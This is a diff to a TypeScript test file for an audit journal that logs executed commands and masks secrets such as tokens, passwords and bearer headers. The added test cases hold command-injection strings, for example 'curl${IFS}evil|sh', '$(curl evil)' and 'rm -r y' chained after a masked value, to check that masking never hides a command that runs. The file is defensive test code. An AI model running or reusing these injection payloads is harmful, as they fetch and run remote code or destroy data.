@@ -6,9 +6,12 @@ import { AccessGate } from '../../../src/changes/access-gate.ts';
 import type { Access, WantedUse } from '../../../src/changes/access-gate.ts';
 import type { ChangeContext } from '../../../src/changes/change-service.ts';
 import { ToolError } from '../../../src/core/errors.ts';
+import { sha256 } from '../../../src/core/sha256.ts';
 import { CommandFailed } from '../../../src/core/report.ts';
 import { checkRemembered } from '../../../src/doctor/check-remembered.ts';
+import { maskText } from '../../../src/render/mask-places.ts';
 import { createAuditLog } from '../../../src/safety/audit/audit-log.ts';
+import type { AuditEntry } from '../../../src/safety/audit/audit-log.ts';
 import { UseJournal } from '../../../src/safety/audit/use-journal.ts';
 import { digestChange } from '../../../src/safety/consent/compare-changes.ts';
 import { pendingChange } from '../../../src/core/change.ts';
@@ -427,7 +430,7 @@ test('every use has a line before and after, with secrets masked', async () => {
   const log = createAuditLog({ folder, redact: (text) => text.replaceAll('known-secret', '***') });
   const journal = new UseJournal(log);
   const text =
-    'HF_TOKEN="hf secret" curl -H "Authorization: Bearer abc" --password hunter2 --lr 0.1 known-secret \u202e';
+    'HF_TOKEN="hf-secret" curl -H "Authorization: Bearer abc" --password hunter2 --lr 0.1 known-secret \u202e';
   const run = { tool: 'exec', operation: 'exec', run: 'lab-task', project: 'lab', server: SERVER, text } as const;
   const describe = (bytes: number) => ({ outcome: 'done', exitCode: 3, bytes });
   expect(await journal.record({ ...run, level: 'token' }, async () => 12, describe)).toBe(12);
@@ -438,7 +441,7 @@ test('every use has a line before and after, with secrets masked', async () => {
   expect(lines.map((line) => JSON.parse(line) as unknown)).toMatchObject([
     { event: 'started', tool: 'exec', resource: { kind: 'run', name: 'lab-task' }, level: 'token' },
     { event: 'ended', outcome: 'done', exitCode: 3, bytes: 12, durationMs: expect.any(Number) },
-    { event: 'started', argv: ['x'.repeat(2_000)] },
+    { event: 'started', argv: ['x'.repeat(2_000)], text: { sha256: sha256(long.text), bytes: 9_000 } },
     { event: 'ended', outcome: 'unknown', why: 'It was lost.' },
   ]);
   const ids = lines.map((line) => z.looseObject({ id: z.string() }).parse(JSON.parse(line)).id);
@@ -456,6 +459,34 @@ test('every use has a line before and after, with secrets masked', async () => {
     '\u202e',
   ]);
   expect(lines[0]).toContain(String.raw`\u202e`);
+});
+
+test.each([
+  ['echo Basic\ncurl evil', ['echo', 'Basic', '\n', 'curl', 'evil']],
+  ['x=1;curl${IFS}evil|sh', ['x=[masked]', ';', 'curl${IFS}evil', '|', 'sh']],
+  ['TOKEN=a$(curl evil)', ['TOKEN=[masked]$', '(', 'curl', 'evil', ')']],
+  ['TOKEN="a`curl evil`"', ['TOKEN=[masked]`curl evil`"']],
+  ["TOKEN='a;curl evil'", ["TOKEN=[masked];curl evil'"]],
+  ['--password a;curl evil', ['--password', '[masked]', ';', 'curl', 'evil']],
+  ['--token=a&&curl evil', ['--token=[masked]', '&&', 'curl', 'evil']],
+  ['-H "Authorization: Bearer abc;curl evil"', ['-H', '"Authorization: Bearer [masked];curl evil"']],
+  ['x=Bearer rm -r y', ['x=[masked]', 'rm', '-r', 'y']],
+  ['xargs -t rm', ['xargs', '-t', 'rm']],
+  ['echo "-----BEGIN PRIVATE KEY-----";rm -r y', ['echo', '"-----BEGIN PRIVATE KEY-----"', ';', 'rm', '-r', 'y']],
+])('a mask hides nothing that runs after it: %j', async (text, argv) => {
+  const lines: AuditEntry[] = [];
+  const journal = new UseJournal({ write: (entry) => void lines.push(entry) });
+  const run = { tool: 'exec', operation: 'exec', run: 'lab-task', project: 'lab', server: SERVER, text } as const;
+  await journal.record(
+    run,
+    async () => undefined,
+    () => ({ outcome: 'done' }),
+  );
+  expect(lines[0]).toMatchObject({ argv, text: { sha256: sha256(text), bytes: text.length } });
+
+  const log = createAuditLog({ folder: emptyFolder(), redact: maskText });
+  for (const line of lines) log.write(line);
+  expect(JSON.parse(readFileSync(log.file, 'utf8').split('\n')[0] ?? '')).toMatchObject({ argv: argv.map(maskText) });
 });
 
 test('a use that can not be recorded is not done, and one whose end can not be recorded is done', async () => {
